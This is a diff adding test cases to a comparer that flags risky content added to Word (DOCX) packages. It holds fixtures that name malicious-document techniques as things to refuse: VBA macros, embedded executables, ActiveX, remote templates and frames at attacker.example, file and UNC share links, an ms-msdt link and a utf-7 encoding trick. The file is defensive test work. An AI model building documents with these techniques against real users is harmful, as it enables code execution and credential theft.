@@ -64,6 +64,106 @@ it.each([
   expect(await differences(changes)).toEqual(expected);
 });
 
+const type = (name: string): string => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
+const related = (kind: string, target: string, mode = ''): Record<string, string> =>
+  changed(
+    'word/_rels/document.xml.rels',
+    '</Relationships>',
+    `<Relationship Id="rIdN" Type="${kind}" Target="${target}"${mode}/></Relationships>`,
+  );
+const external = (kind: string, target: string): Record<string, string> => related(kind, target, ' TargetMode="External"');
+const typed = (more: string): Record<string, string> => changed('[Content_Types].xml', '</Types>', `${more}</Types>`);
+const rels = 'foreign word/_rels/document.xml.rels';
+
+it.each([
+  [
+    'a picture',
+    { ...typed('<Default Extension="png" ContentType="image/png"/>'), ...related(type('image'), 'media/b.png'), 'word/media/b.png': 'x' },
+  ],
+  ['a header', { ...related(type('header'), 'header1.xml'), 'word/header1.xml': `<w:hdr xmlns:w="${word}"/>` }],
+  [
+    'comments',
+    {
+      ...typed(
+        '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>',
+      ),
+      ...related(type('comments'), 'comments.xml'),
+      'word/comments.xml': `<w:comments xmlns:w="${word}"/>`,
+    },
+  ],
+  ['a link', external(type('hyperlink'), 'https://partner.example/a?b=c:d')],
+  ['an address of mail', external(type('hyperlink'), 'mailto:a@partner.example')],
+  ['a link as it was typed', external(type('hyperlink'), 'www.partner.example')],
+])('takes %s that was added', async (_, changes) => {
+  expect(await differences(changes)).toEqual([]);
+});
+
+const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+it.each([
+  [
+    'macros',
+    { ...typed('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), 'word/vbaProject.bin': 'x' },
+    ['foreign word/vbaProject.bin', 'foreign [Content_Types].xml'],
+  ],
+  [
+    'a program',
+    { ...typed('<Default Extension="bin" ContentType="image/png"/>'), 'word/embeddings/oleObject1.bin': 'MZ' },
+    ['foreign word/embeddings/oleObject1.bin'],
+  ],
+  ['a control', { 'word/activeX/activeX1.xml': '<a/>' }, ['foreign word/activeX/activeX1.xml']],
+  ['another main type', typed(`<Override PartName="/word/document.xml" ContentType="${main}"/>`), ['foreign [Content_Types].xml']],
+  [
+    'another default type',
+    changed('[Content_Types].xml', 'application/xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
+    ['foreign [Content_Types].xml'],
+  ],
+  [
+    'a hidden type',
+    typed(`<x:Override xmlns:x="urn:x" PartName="/word/document.xml" ContentType="${main}"/>`),
+    ['foreign [Content_Types].xml'],
+  ],
+  ['a relationship to macros', related('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'document.xml'), [rels]],
+  ['a relationship to a program', related(type('oleObject'), 'media/a.png'), [rels]],
+  ['a remote template', external(type('attachedTemplate'), 'http://attacker.example/evil.dotm'), [rels]],
+  ['a remote picture', external(type('image'), 'http://attacker.example/a.png'), [rels]],
+  ['a remote frame', external(type('frame'), 'http://attacker.example/a.doc'), [rels]],
+  ['a text from elsewhere', related(type('aFChunk'), 'media/a.png'), [rels]],
+  ['a link to a file', external(type('hyperlink'), 'file://attacker.example/a'), [rels]],
+  ['a link to a share', external(type('hyperlink'), '\\\\attacker.example\\a'), [rels]],
+  ['a link that runs', external(type('hyperlink'), 'ms-msdt:/id'), [rels]],
+  ['a target that is no address', related(type('image'), 'http://['), ['dangling word/_rels/document.xml.rels']],
+  [
+    'another encoding',
+    { 'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="utf-7"?>${base['word/_rels/document.xml.rels']}` },
+    [rels],
+  ],
+])('refuses %s that was added', async (_, changes, expected) => {
+  expect(await differences(changes)).toEqual(expected);
+});
+
+it('what the base has may stay', async () => {
+  const had: Record<string, string> = {
+    ...typed('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
+    'word/vbaProject.bin': 'x',
+    ...external(type('attachedTemplate'), 'file:///c:/house.dotm'),
+  };
+  const edited: Record<string, string> = {
+    ...had,
+    ...changed('word/document.xml', 'one', 'two'),
+    'word/_rels/document.xml.rels': (had['word/_rels/document.xml.rels'] ?? '').replace(
+      '<Relationships',
+      '<!-- written anew --><Relationships',
+    ),
+  };
+  expect(await comparePackages(await zipOf({ ...base, ...had }), await zipOf({ ...base, ...edited }), 'edited')).toEqual([]);
+});
+
+it('two entries of one name are refused, as others may read the other', async () => {
+  const edited = await zipOf(base);
+  edited.hasTwins = true;
+  expect((await comparePackages(await zipOf(base), edited, 'edited')).map((one) => one.kind)).toEqual(['foreign']);
+});
+
 it('xml:space counts where a text has spaces around it', async () => {
   const kept = changed('word/theme/theme1.xml', '<a:y> </a:y>', '<a:y xml:space="preserve"> </a:y>');
   expect(await differences(kept)).toEqual(['changed word/theme/theme1.xml']);
